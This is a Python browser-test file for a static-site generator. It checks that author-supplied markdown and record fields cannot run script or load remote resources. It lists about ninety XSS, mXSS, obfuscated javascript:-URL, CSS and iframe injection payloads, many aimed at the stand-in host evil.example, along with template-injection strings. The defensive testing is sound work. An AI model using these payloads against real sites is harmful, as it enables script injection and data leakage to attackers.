"""Authors who mean harm: whatever they write, nothing of it runs and nothing is fetched."""

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import Open
from tests.browser.hostile import HIT, hits, settled
from tests.browser.server import serving
from tests.core.bodies import body_of
from tests.core.records import TODAY
from tests.plugins.built_site import build
from tests.plugins.project_outline import write_file, write_project
from videnbank.core.catalogue.project import Project
from videnbank.core.language.slug import slug
from videnbank.core.loading.check_project import check_project
from videnbank.core.markup.published_body import BodyPublisher

EVIL = "evil.example"

# What may stand in a plain field: no < > ` and no entity, which the reader refuses there.
FIELD = f"""\\"'--]] onload={HIT} x=' {{{{ 7*7 }}}} {{% raw %}} javascript:{HIT} \\u2028"""

BODIES = [
    f"<script>{HIT}</script>",
    f"<SCRIPT SRC=//{EVIL}/x.js></SCRIPT>",
    f'<img src="ok.png" alt="x" onerror="{HIT}" onload="{HIT}">',
    f'<img src="findes-ikke.png" alt="x" onerror="{HIT}">',
    f"<svg onload={HIT}></svg>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f'<a href="javascript:{HIT}">klik</a>',
    f'<a href="java&#115;cript:{HIT}">klik</a>',
    f'<a href="java\tscript:{HIT}">klik</a>',
    f'<a href="&#1;javascript:{HIT}">klik</a>',
    f'<a href="JaVaScRiPt:{HIT}">klik</a>',
    f'<a href=" javascript:{HIT}">klik</a>',
    f'<a href="vbscript:{HIT}">klik</a>',
    f'<a href="data:text/html,<script>{HIT}</script>">klik</a>',
    f"[klik](javascript:{HIT})",
    f"[klik](JAVASCRIPT&colon;{HIT})",
    f"[klik](java&#x0A;script:{HIT})",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[klik][a]\n\n[a]: javascript:{HIT}",
    f"<javascript:{HIT}>",
    f'[klik](ok.png "x\\" onclick={HIT} \\"")',
    f'[klik](ok.png){{: onclick="{HIT}" }}',
    f'[klik](ok.png){{: href="javascript:{HIT}" }}',
    f'![x](ok.png){{: onerror="{HIT}" srcset="//{EVIL}/x.png" }}',
    f'![x](ok.png){{: src="//{EVIL}/x.png" }}',
    f'## Overskrift {{: onmouseover="{HIT}" style="background:url(//{EVIL}/x)" }}',
    f"## <img src=x onerror={HIT}>",
    f"# Første\n\n## <script>{HIT}</script>",
    f'<div markdown="1" onclick="{HIT}" style="background:url(//{EVIL}/x)">**tekst**</div>',
    f'<details open ontoggle="{HIT}"><summary>s</summary></details>',
    f'<iframe src="//{EVIL}/"></iframe>',
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f'<object data="//{EVIL}/"></object><embed src="//{EVIL}/">',
    f'<form action="//{EVIL}/"><input autofocus onfocus="{HIT}"><button formaction="//{EVIL}/">x',
    f'<base href="//{EVIL}/">',
    f'<meta http-equiv="refresh" content="0; url=//{EVIL}/">',
    f'<link rel="stylesheet" href="//{EVIL}/x.css">',
    f"<style>@import '//{EVIL}/x.css'; body {{ background: url(//{EVIL}/x) }}</style>",
    f'<p style="background:url(//{EVIL}/x)">x</p>',
    f'<table><tr><td style="text-align:right;background:url(//{EVIL}/x)">x</td></tr></table>',
    f'<video poster="//{EVIL}/x.png" src="//{EVIL}/x.mp4" autoplay></video>',
    f'<audio src="//{EVIL}/x.mp3" autoplay onerror="{HIT}"></audio>',
    f'<img src="https://{EVIL}/x.png" alt="x">',
    f'<img src="//{EVIL}/x.png" alt="x">',
    f"<IMG ALT=x SRC=https://{EVIL}/x.png>",
    f"<img alt=\"x\"\nsrc = '//{EVIL}/x.png'>",
    f'<img src="https:{EVIL}/x.png" alt="x">',
    f'<img src="\\\\{EVIL}\\x.png" alt="x">',
    f'<img src="/\\{EVIL}/x.png" alt="x">',
    f'<img src="/\t/{EVIL}/x.png" alt="x">',
    f'<img src="&#47;&#47;{EVIL}/x.png" alt="x">',
    f'<img src="h&#116;tps://{EVIL}/x.png" alt="x">',
    f'<img src="ok.png" alt="x" srcset="//{EVIL}/x.png 2x">',
    f'<img alt="x" data-x="src=ok.png" src="//{EVIL}/x.png">',
    f'<img alt="a>b" src="//{EVIL}/x.png">',
    f'<img alt="x src=" src="//{EVIL}/x.png">',
    f'![x](ok.png){{: alt="x src=" src="//{EVIL}/x.png" }}',
    f'![x](ok.png){{: title="a>b" src="https://{EVIL}/x.png" }}',
    f'![x](ok.png){{: src="/\\{EVIL}/x.png" }}',
    f'<picture><source srcset="//{EVIL}/x.png"><img src="ok.png" alt="x"></picture>',
    f'<input type="image" src="//{EVIL}/x.png">',
    f"![x](https://{EVIL}/x.png)",
    f"![x](//{EVIL}/x.png)",
    f"![x](/\\{EVIL}/x.png)",
    f"![x](https:{EVIL}/x.png)",
    f"![x](&#47;&#47;{EVIL}/x.png)",
    f"![x][b]\n\n[b]: //{EVIL}/x.png",
    f"![x]( <//{EVIL}/x.png> )",
    f"[![x](//{EVIL}/x.png)](ok.png)",
    f"!!! note\n    ![x](//{EVIL}/x.png)",
    f"- ![x](//{EVIL}/x.png)\n\n[^1]\n\n[^1]: ![x](//{EVIL}/y.png)",
    f'<div markdown="1">![x](//{EVIL}/x.png)</div>',
    f"| a |\n|---|\n| ![x](//{EVIL}/x.png) |",
    f"term\n:   ![x](//{EVIL}/x.png)",
    f'*[HTML]: "><img src=x onerror={HIT}>\n\nHTML',
    f'Se.[^"><script>{HIT}</script>]\n\n[^"><script>{HIT}</script>]: Note',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>"></noscript>',
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[<img src=x onerror={HIT}>]]>",
    f"<?php <img src=x onerror={HIT}> ?>",
    f'<xmp><p title="</xmp><img src=x onerror={HIT}>">',
    f"<template><img src=x onerror={HIT}></template>",
    f"&lt;img src=x onerror={HIT}&gt; &lt;script&gt;{HIT}&lt;/script&gt;",
    f"`<script>{HIT}</script>`\n\n    <script>{HIT}</script>\n\n```\n</code><script>{HIT}</script>\n```",
    "{{ 7*7 }} {% set x = 1 %} ${7*7} #{7*7} {{ config.site_dir }}",
    f'<a id="x" name="getElementById" href="ok.png" target=_blank ping="//{EVIL}/">klik</a>',
    f"</div></article></main></body></html><script>{HIT}</script>",
    f"</title></style></textarea></script><script>{HIT}</script>",
]
KINDS = {
    "cases": """
      | workplaces: ["{text}"]
      | effort: {{note: "{text}"}}
      | barriers: ["{text}"]
      | advice: ["{text}"]
      | outcomes:
      |   - {{bottom_line: quality, finding: "{text}", direction: better, evidence: measured, source: kilde, measure: {{indicator: "{text}", unit: "{text}", after: 1, period: "{text}", comparison: "{text}"}}}}
      | withdrawn: {{reason: "{text}", date: 2026-03-01, successor: case/efter}}
      | state: withdrawn
    """,
    "docs/vaerktoejer": """
      | purpose: "{text}"
      | output: "{text}"
      | duration: {{min: 5, note: "{text}"}}
      | participants: {{min: 5, who: "{text}"}}
      | preparation: ["{text}"]
      | materials: ["{text}"]
      | steps: [{{title: "{text}", text: "{text}", points: ["{text}"]}}]
      | shortened: "{text}"
      | when: "{text}"
      | caution: ["{text}"]
      | audio: {{src: "{file}", seconds: 5, transcript: "{text} <img src=x onerror=window.hit=1>"}}
      | downloads: [{{src: "{file}", title: "{text}"}}]
      | origin: "{text}"
    """,
    "docs/resultater": """
      | question: "{text}"
      | conclusion: "{text}"
      | limitations: ["{text}"]
    """,
    "docs/nyheder": """
      | lead: "{text}"
      | press_contact: {{role: "{text}"}}
      | attachments: [{{src: "{file}", title: "{text}"}}]
    """,
}
COMMON = """
      | title: "Titel {short}"
      | summary: "{text}"
      | image: {{src: "{file}", alt: "{text}", credit: "{text}", recognisable_people: true, consent: "{text}"}}
      | contacts: [{{role: "{text}", email: "javascript.x+a_b@eksempel.dk"}}]
      | sources: [{{id: kilde, title: "{text}", publisher: "{text}", url: "https://eksempel.dk/?javascript:{hit}//"}}]
"""
PICTURES = 'pictures: [{src: ok.png, credit: "Os", recognisable_people: false}]'
FILE = f"x' onerror={HIT} y.png"


def opened_everything(page: Page) -> None:
    """Does with a page what a reader might: opens, points at, and follows everything."""
    page.evaluate("document.querySelectorAll('details').forEach(box => { box.open = true; })")
    page.evaluate(
        """() => {
            for (const element of document.querySelectorAll("main *")) {
                for (const kind of ["mouseover", "mouseenter", "focus", "pointerdown"]) {
                    element.dispatchEvent(new Event(kind));
                }
            }
            for (const link of document.querySelectorAll("main a")) {
                const goes = new URL(link.href, location.href).protocol;
                if (!["http:", "https:", "mailto:", "tel:"].includes(goes)) window.hit = link.outerHTML;
            }
        }"""
    )
    settled(page)


@pytest.fixture(scope="module")
def bodies(tmp_path_factory: pytest.TempPathFactory, today: None) -> Iterator[tuple[str, int]]:
    """A site with every hostile body that the reader accepts, and how many those are."""
    assert today is None
    project = write_project(tmp_path_factory.mktemp("bodies"), "docs/index.md\n  | Hej.")
    for number, body in enumerate(BODIES):
        name = f"cases/ond-{number:02}"
        is_shown = "ok.png" in body
        fields = [PICTURES] if is_shown else []
        write_file(project, f"{name}/index.md", [*fields, "---", *body.split("\n")])
        if is_shown:
            write_file(project, f"{name}/ok.png", None)
    refused = {Path(issue.path).parent for issue in check_project(Project(project), TODAY).issues}
    for folder in refused:
        shutil.rmtree(project / folder)
    site = build(project)
    # The check refuses most; what would be published of them without it is as harmless.
    publisher = BodyPublisher(lambda uri: uri, lambda _: frozenset(), slug)
    html = "\n".join(publisher.html(body_of(body), "alle/index.md", "alle/") for body in BODIES)
    (site.root / "alle").mkdir()
    (site.root / "alle" / "index.html").write_text(
        f"<!doctype html><meta charset=utf-8><title>Alle</title><main>{html}</main>", "utf-8"
    )
    with serving(site.root) as url:
        yield url, len(BODIES) - len(refused)


def test_a_hostile_body_does_nothing(opened: Open, bodies: tuple[str, int]) -> None:
    url, accepted = bodies
    watch = opened(url)
    addresses = watch.go("cases/").locator(".vb-card a").evaluate_all("all => all.map(a => a.href)")
    assert len(addresses) == accepted > 0
    for address in (*addresses, f"{url}alle/"):
        page = watch.go(address.removeprefix(url))
        opened_everything(page)
        assert hits(page) is None, address
        # A picture that is not there is the author's own loss.
        watch.forgives(
            "console: Failed to load resource: the server responded with a status of 404"
        )
        assert watch.misdeeds == [], address


@pytest.fixture(scope="module")
def fields(tmp_path_factory: pytest.TempPathFactory, today: None) -> Iterator[str]:
    """A site with a record of each kind whose every text is as hostile as the reader allows."""
    assert today is None
    values = {"text": FIELD, "short": FIELD[:60], "file": FILE, "hit": HIT}
    picture = ["cases/efter/index.md"]
    for folder, own in KINDS.items():
        lines = f"{COMMON}{own}".format(**values)
        picture += [f"{folder}/ond/index.md", lines, f"{folder}/ond/{FILE}"]
    project = write_project(tmp_path_factory.mktemp("fields"), "\n".join(picture), search=True)
    with serving(build(project).root) as url:
        yield url


@pytest.mark.parametrize("folder", ["cases", "vaerktoejer", "resultater", "nyheder"])
def test_hostile_fields_do_nothing_and_are_shown_as_they_were_written(
    opened: Open, fields: str, folder: str
) -> None:
    watch = opened(fields)
    page = watch.go(f"{folder}/ond/")
    opened_everything(page)
    assert hits(page) is None
    text = page.locator("body").inner_text()
    assert "{{ 7*7 }} {% raw %}" in text
    assert f"onload={HIT} x='" in text
    assert page.title().startswith("Titel \"'--]] onload=")
    loaded = page.locator("figure img").evaluate("image => image.complete && image.naturalWidth")
    assert loaded == 1


def test_hostile_fields_do_nothing_in_lists(opened: Open, fields: str) -> None:
    watch = opened(fields)
    for address in ("", "vaerktoejer/", "omraader/aeldre/", "find/", "resultater/hvad-ved-vi/"):
        page = watch.go(address)
        opened_everything(page)
        assert hits(page) is None
